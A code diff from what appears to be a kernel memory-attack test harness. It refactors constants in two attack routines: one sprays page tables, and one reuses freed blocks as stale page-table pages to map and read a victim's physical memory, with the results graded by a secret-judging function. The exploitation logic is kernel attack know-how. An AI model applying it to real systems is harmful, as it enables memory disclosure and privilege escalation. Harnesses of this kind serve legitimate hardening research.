@@ -11,11 +11,11 @@
 #include "attack.h"
 #include "list.h"
 
-#define SPRAY_BASE	0x500000000000UL
+#define SPRAY_PART	0x50
 #define PTE_SPRAY	256
-#define STALE_SPRAY	12000	/* page-table pages, 48 MiB */
-#define STALE_BLOCKS	16	/* 2 MiB blocks freed before */
-#define STALE_ORDER	9
+#define STALE_MIB	48	/* of page-table pages */
+#define STALE_BLOCKS	16	/* of 2 MiB, freed before */
+#define STALE_SIZE	(2UL << 20)
 
 static int find_changed(volatile char *base)
 {
@@ -29,7 +29,7 @@ static int find_changed(volatile char *base)
 
 enum outcome pte_spray(void)
 {
-	volatile char *base = sparse_region(SPRAY_BASE, PTE_SPRAY, PROT_READ | PROT_WRITE);
+	volatile char *base = sparse_region(user_room(SPRAY_PART), PTE_SPRAY, PROT_READ | PROT_WRITE);
 	struct slot slot;
 	char text[64] = "";
 	int i, hit, err;
@@ -52,6 +52,11 @@ enum outcome pte_spray(void)
 	return judge_secret(text, err);
 }
 
+static int stale_tables(void)
+{
+	return (STALE_MIB << 20) / PAGE_SIZE;
+}
+
 struct stale {
 	uint64_t blocks[STALE_BLOCKS];
 };
@@ -60,7 +65,8 @@ static bool stale_make(struct stale *stale)
 {
 	int i;
 
-	if (corrupt_command("alloc order=%d count=%d", STALE_ORDER, STALE_BLOCKS))
+	if (corrupt_command("alloc order=%d count=%d",
+			    __builtin_ctzl(STALE_SIZE / PAGE_SIZE), STALE_BLOCKS))
 		return false;
 	for (i = 0; i < STALE_BLOCKS; i++)
 		stale->blocks[i] = corrupt_answer_nth("address", i);
@@ -72,7 +78,7 @@ static bool stale_has(const struct stale *stale, uint64_t addr)
 	int i;
 
 	for (i = 0; i < STALE_BLOCKS; i++)
-		if (addr - stale->blocks[i] < PAGE_SIZE << STALE_ORDER)
+		if (addr - stale->blocks[i] < STALE_SIZE)
 			return true;
 	return false;
 }
@@ -83,7 +89,7 @@ static bool spray_until_reused(volatile char *base, const struct stale *stale,
 {
 	int i;
 
-	for (i = 0; i < STALE_SPRAY; i++) {
+	for (i = 0; i < stale_tables(); i++) {
 		(void)base[i * PMD_SIZE];
 		if (i % 8)
 			continue;
@@ -97,7 +103,7 @@ static bool spray_until_reused(volatile char *base, const struct stale *stale,
 
 enum outcome stale_ptp(void)
 {
-	volatile char *base = sparse_region(SPRAY_BASE, STALE_SPRAY, PROT_READ);
+	volatile char *base = sparse_region(user_room(SPRAY_PART), stale_tables(), PROT_READ);
 	struct window window;
 	struct stale stale;
 	char text[64];
@@ -106,7 +112,7 @@ enum outcome stale_ptp(void)
 	if (!base || !stale_make(&stale))
 		return broken("no memory to free");
 	if (!spray_until_reused(base, &stale, &window))
-		return lost("none of %d page-table pages came from freed memory", STALE_SPRAY);
+		return lost("none of %d page-table pages came from freed memory", stale_tables());
 	err = window_map(&window, plain_store, NULL, victim_phys());
 	snprintf(text, sizeof(text), "%s", window.page);
 	window_close(&window);
